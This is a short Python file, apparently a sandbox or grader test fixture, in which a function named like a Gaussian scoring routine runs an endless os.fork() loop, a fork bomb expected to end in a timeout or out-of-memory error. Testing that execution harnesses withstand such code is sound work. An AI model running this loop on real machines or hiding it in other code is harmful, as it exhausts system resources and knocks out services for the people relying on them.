"""Forks as fast as it can.

Status: timeout or out_of_memory
"""

import os


def score_gaussian_1d(x, mu=0.0, sigma=1.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass
